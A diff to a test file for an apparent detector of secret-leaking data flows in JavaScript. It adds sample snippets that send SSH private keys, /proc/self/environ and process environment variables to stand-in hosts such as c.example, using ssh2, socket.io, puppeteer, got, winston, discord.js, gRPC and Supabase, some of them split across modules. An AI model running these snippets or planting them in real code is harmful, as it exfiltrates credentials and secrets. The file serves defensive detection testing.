@@ -59,8 +59,62 @@ test.each<readonly [string, string]>([
     'a file by its path',
     "const {Storage}=require('@google-cloud/storage');new Storage().bucket('b').upload(require('os').homedir()+'/.ssh/id_rsa')",
   ],
+  [
+    'a channel that a callback is given',
+    "const {Client}=require('ssh2'),c=new Client();c.on('ready',()=>c.sftp((e,s)=>s.fastPut(require('os').homedir()+'/.ssh/id_rsa','a'))).connect({host:'s.example'})",
+  ],
+  [
+    'socket.io, where nobody minds that it is lost',
+    `const {io}=require('socket.io-client');class Board{s=io('https://c.example');put(x){this.s.volatile.emit('a',x)}}new Board().put(${ENV})`,
+  ],
+  ['a browser', `const p=await require('puppeteer').launch();(await p.newPage()).goto('https://c.example/?'+${ENV})`],
+  [
+    'a hook that a client is made with',
+    `const got=require('got');got.extend({hooks:{beforeRequest:[(options)=>{options.headers.cookie=${ENV}}]}})`,
+  ],
+  [
+    'a log that is carried to a host',
+    "const w=require('winston');const all=w.format((info)=>{info.at={env:process.env};return info});w.createLogger({format:all(),transports:[new w.transports.Http({host:'c.example'})]})",
+  ],
+  [
+    'what each of some detectors tells',
+    "const {resourceFromAttributes:r}=require('@opentelemetry/resources');const own={detect:()=>({...process.env})};const all=[{detect:()=>({a:1})},own];r(Object.assign({},...all.map((d)=>d.detect())))",
+  ],
+  [
+    'what is built in a row',
+    `const {WebhookClient:W,EmbedBuilder:E}=require('discord.js');new W({url:'u'}).send({embeds:[new E().setTitle('a').setDescription(${ENV}).setTimestamp()]})`,
+  ],
+  [
+    'a stream of a remote procedure',
+    "const g=require('@grpc/grpc-js');const C=g.makeGenericClientConstructor({},'R');const call=new C('h').hello();call.write(require('fs').readFileSync('/proc/self/environ','utf8'))",
+  ],
 ])('%s', (_, code) => {
   expect(sent(code)).not.toEqual([]);
+});
+
+test.each<readonly [string, Readonly<Record<string, string>>]>([
+  [
+    'a function of another module that has the client',
+    {
+      'index.js': `const {keep}=require('./store');keep({at:1,data:${ENV}})`,
+      'store.js':
+        "const {createClient}=require('@supabase/supabase-js');const db=createClient('https://c.example','k');exports.keep=(row)=>db.from('rows').insert(row)",
+    },
+  ],
+  [
+    'what a container makes of the classes that a decorator names',
+    {
+      'index.js': "require('./device')",
+      'device.js': `import {createClient} from '@supabase/supabase-js';import {Injectable} from './container.js';import {Config} from './config.js';
+        let Device=class Device{db=createClient('https://c.example','k');constructor(config){this.config=config}touch(){return this.db.from('a').upsert({settings:this.config.all()})}};
+        Device=__decorate([Injectable(Config)],Device);export{Device}`,
+      'config.js':
+        'export class Config{values=new Map(Object.entries(process.env));all(){return Object.fromEntries(this.values)}}',
+      'container.js': 'export const Injectable=(...d)=>(t)=>t',
+    },
+  ],
+])('across modules: %s', (_, files) => {
+  expect(flowsIn(files)).toContain('environment to service');
 });
 
 test.each<readonly [string, string]>([
@@ -71,6 +125,22 @@ test.each<readonly [string, string]>([
   [
     'a key a client logs in with',
     "const {Storage}=require('@google-cloud/storage'),os=require('os');new Storage({keyFilename:os.homedir()+'/.config/gcloud/application_default_credentials.json'}).bucket('b').upload('./report.csv')",
+  ],
+  [
+    'what a container gives that is asked for by name',
+    "class Config{get(k){return process.env[k]}}let D=class D{constructor(c){this.c=c}go(){require('redis').createClient().set('a',this.c.get('CITY'))}};D=__decorate([Injectable(Config)],D)",
+  ],
+  [
+    'a page that a setting names, in a browser with the environment',
+    "const p=await require('puppeteer').launch({env:{...process.env}});(await p.newPage()).goto(process.env.START_PAGE)",
+  ],
+  [
+    'a log of this machine',
+    "const w=require('winston');const all=w.format((info)=>{info.at={env:process.env};return info});w.createLogger({format:all(),transports:[new w.transports.File({filename:'a.log'})]}).info('a',process.env)",
+  ],
+  [
+    'a hook that logs in',
+    "const got=require('got');got.extend({hooks:{beforeRequest:[(options)=>{options.headers.authorization='Bearer '+process.env.WEATHER_TOKEN}]}})",
   ],
   ['one variable', "const r=require('redis').createClient();r.set('host',process.env.HOST)"],
   ['what is asked for', "const r=require('redis').createClient();r.get('k').then((v)=>console.log(v,process.env))"],
